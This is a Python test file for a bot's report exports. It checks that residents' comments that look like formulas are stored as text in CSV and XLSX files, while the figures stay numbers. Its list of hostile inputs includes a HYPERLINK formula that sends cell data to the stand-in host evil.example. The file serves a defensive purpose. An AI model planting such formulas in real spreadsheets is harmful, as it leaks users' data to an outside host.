"""Residents' comments in the report files stay text: a comment that looks like a formula is not
run by a spreadsheet (CSV/XLSX formula injection), while the figures stay numbers."""

import csv
import io
from collections import Counter
from datetime import date

import pytest
from aiogram.utils.i18n import I18n
from openpyxl import load_workbook

from bot.services.quality import Period, QualityReport
from bot.services.report_output import report_csv, report_xlsx
from bot.settings import LOCALES_DIR

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
]
HARMLESS = ["Bardzo sprawnie", "Ačiū 1+1", "2 + 2 = 4"]


@pytest.fixture
def report() -> QualityReport:
    return QualityReport(
        period=Period(date(2026, 12, 1), date(2026, 12, 31)),
        received=4,
        closed=3,
        on_time=2,
        handling_days=[3, 5, 8],
        scores=Counter({5: 2, 1: 1}),
        comments=sorted(HOSTILE + HARMLESS),
    )


def _english(render, report: QualityReport):
    i18n = I18n(path=LOCALES_DIR, default_locale="pl", domain="bot")
    with i18n.context(), i18n.use_locale("en"):
        return render(report)


def test_xlsx_stores_comments_as_text_and_figures_as_numbers(report: QualityReport) -> None:
    workbook = load_workbook(io.BytesIO(_english(report_xlsx, report)))
    # Verbatim, nothing added or lost (XML reads a carriage return back as a line feed).
    comments = {cell.value.replace("\n", "\r"): cell for (cell,) in workbook["Comments"].iter_rows(min_row=2)}
    assert set(comments) == set(HOSTILE + HARMLESS)
    for text in HOSTILE:
        assert comments[text].data_type == "s", text  # a string, not "f" (a formula)
        assert comments[text].quotePrefix, text  # and stays text when edited in Excel
    assert all(comments[text].data_type == "s" and not comments[text].quotePrefix for text in HARMLESS)

    summary = {row[0].value: row[1] for row in workbook["Summary"].iter_rows(min_row=2)}
    assert summary["Cases received"].value == 4 and summary["Cases received"].data_type == "n"
    assert (
        summary["Median handling time, working days"].value == 5
        and summary["Median handling time, working days"].data_type == "n"
    )
    assert all(cell.data_type != "f" for sheet in workbook for row in sheet.iter_rows() for cell in row)


def test_csv_prefixes_formula_like_comments_with_a_quote(report: QualityReport) -> None:
    text = _english(report_csv, report).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    first = rows.index(["Comment"]) + 1
    comments = rows[first : rows.index([], first)]  # up to the next table (the visit surveys')
    cells = {row[0] for row in comments if row}
    assert cells == {"'" + hostile for hostile in HOSTILE} | set(HARMLESS)
    assert ["Cases received", "4"] in rows and ["Cases closed", "3"] in rows  # figures unchanged
    # No line of the file starts a cell with a formula character.
    assert not [row for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
